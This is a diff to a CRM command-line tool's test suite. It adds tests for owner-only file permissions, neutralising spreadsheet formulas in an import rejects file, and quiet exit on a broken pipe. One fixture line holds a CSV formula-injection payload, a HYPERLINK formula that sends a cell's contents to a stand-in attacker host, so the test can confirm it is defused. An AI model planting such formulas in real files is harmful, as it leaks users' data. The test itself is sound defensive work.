@@ -4,7 +4,8 @@ import Database from 'better-sqlite3';
 import { existsSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
-import { ROOT, runCrm, sandbox, type Sandbox } from '../helpers/cli.js';
+import { spawnSync } from 'node:child_process';
+import { BIN, ROOT, runCrm, sandbox, type Sandbox } from '../helpers/cli.js';
 
 // What must never reach a terminal: C0 controls but tab/newline, DEL, C1 controls (incl. the
 // 8-bit CSI), bidi overrides and isolates, line/paragraph separators.
@@ -170,6 +171,20 @@ describe('reliability: privacy', () => {
     expect(statSync(sb.crm(['backup']).stdout.trim()).mode & 0o777).toBe(0o600);
   });
 
+  it('writes the rejects file owner-only, with formulas neutralised', () => {
+    const f = join(sb.dir, 'leads.csv');
+    writeFileSync(f, 'Notes,Name,Company,Email\n=HYPERLINK("https://evil.example/?"&A1),,,\nhi,Ann,Ann Co,ann@ann.example.com\n');
+    const rej = join(sb.dir, 'rejects.csv');
+    writeFileSync(rej, 'old');
+    const r = sb.crm(['import', f, '--rejects', rej]);
+    expect(r.code, r.stderr).toBe(0);
+    expect(statSync(rej).mode & 0o777).toBe(0o600);
+    const text = readFileSync(rej, 'utf8');
+    expect(text).toMatch(/leads\.csv,2,/);
+    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1),,,"`);
+    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
+  });
+
   it('writes exports owner-only', () => {
     if (!/^\s+export\b/m.test(sb.crm(['--help']).stdout)) return; // crm export is not part of this build yet
     sb.crm(['account', 'add', '--name', 'Private Co']);
@@ -177,6 +192,17 @@ describe('reliability: privacy', () => {
     const r = sb.crm(['export', 'accounts', '--format', 'csv', '--out', out]);
     expect(r.code, r.stderr).toBe(0);
     expect(statSync(out).mode & 0o777).toBe(0o600);
+  });
+
+  it('exits quietly when the reader of its output goes away (crm ... | head)', () => {
+    const f = join(sb.dir, 'many.csv');
+    writeFileSync(f, 'Name,Company,Email\n' + Array.from({ length: 1500 }, (_, i) => `P ${i},Firm ${i},p${i}@f${i}.example.com`).join('\n') + '\n');
+    expect(sb.crm(['import', f]).code).toBe(0);
+    const err = join(sb.dir, 'err.txt');
+    const q = (s: string) => `'${s.replace(/'/g, "'\\''")}'`;
+    const r = spawnSync('sh', ['-c', `${q(process.execPath)} ${q(BIN)} --db ${q(sb.db)} contact list --json 2>${q(err)} | head -c 100 >/dev/null; echo "\${PIPESTATUS:-}"`], { encoding: 'utf8' });
+    expect(r.status).toBe(0);
+    expect(readFileSync(err, 'utf8')).toBe('');
   });
 
   it('has no network code: the bundle loads no network module', () => {
